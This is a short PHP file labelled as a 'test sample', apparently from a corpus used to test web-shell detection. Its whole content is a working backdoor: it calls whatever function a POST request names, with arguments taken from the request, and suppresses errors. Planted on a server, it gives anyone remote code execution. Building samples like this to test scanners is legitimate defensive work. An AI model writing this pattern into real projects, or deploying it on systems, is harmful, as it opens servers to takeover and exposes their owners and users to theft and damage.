<?php
// Test sample: call_user_func_array with callable and args from POST.
if (!empty($_POST['fn'])) {
    $args = isset($_POST['args']) ? (array) $_POST['args'] : array();
    echo @call_user_func_array($_POST['fn'], $args);
}
